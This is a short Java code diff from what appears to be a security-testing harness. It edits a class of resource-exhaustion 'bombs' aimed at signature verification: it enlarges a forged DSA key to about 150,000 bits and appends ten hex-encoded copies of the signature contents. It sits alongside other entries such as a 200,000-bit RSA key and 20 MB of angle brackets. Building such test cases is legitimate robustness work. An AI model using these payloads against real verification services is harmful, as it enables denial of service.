@@ -3,6 +3,7 @@ package org.yinxin.attacks;
 import java.io.IOException;
 import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
+import java.util.HexFormat;
 import java.util.List;
 import org.bouncycastle.asn1.x509.SubjectPublicKeyInfo;
 
@@ -166,8 +167,8 @@ final class Bombs {
         s -> signature(s, HugeKeys.rsa(200_000), "SHA256withRSA"));
     add(
         all,
-        "a signature with a DSA key of 60,000 bits",
-        s -> signature(s, HugeKeys.dsa(60_000), "SHA256withDSA"));
+        "a signature with a DSA key of an order of 150,000 bits",
+        s -> signature(s, HugeKeys.dsa(150_000), "SHA256withDSA"));
     add(all, "20 MB of angle brackets", s -> brackets("<".repeat(20 * MEGABYTE)));
     add(
         all,
@@ -183,9 +184,13 @@ final class Bombs {
     all.add(new Attack(BOMBS, name, forgery));
   }
 
+  /** Ten times in the file. */
   private static byte[] signature(Scene scene, SubjectPublicKeyInfo key, String algorithm)
       throws IOException {
-    return Forger.blank(Forger.unsigned(scene.credential.byteRangeSha256(), key, algorithm));
+    byte[] cms = Forger.unsigned(scene.credential.byteRangeSha256(), key, algorithm);
+    String again = "\n%/Contents<" + HexFormat.of().formatHex(cms) + ">";
+    return ByteTricks.joined(
+        Forger.blank(cms), again.repeat(10).getBytes(StandardCharsets.US_ASCII));
   }
 
   private static byte[] brackets(String text) {
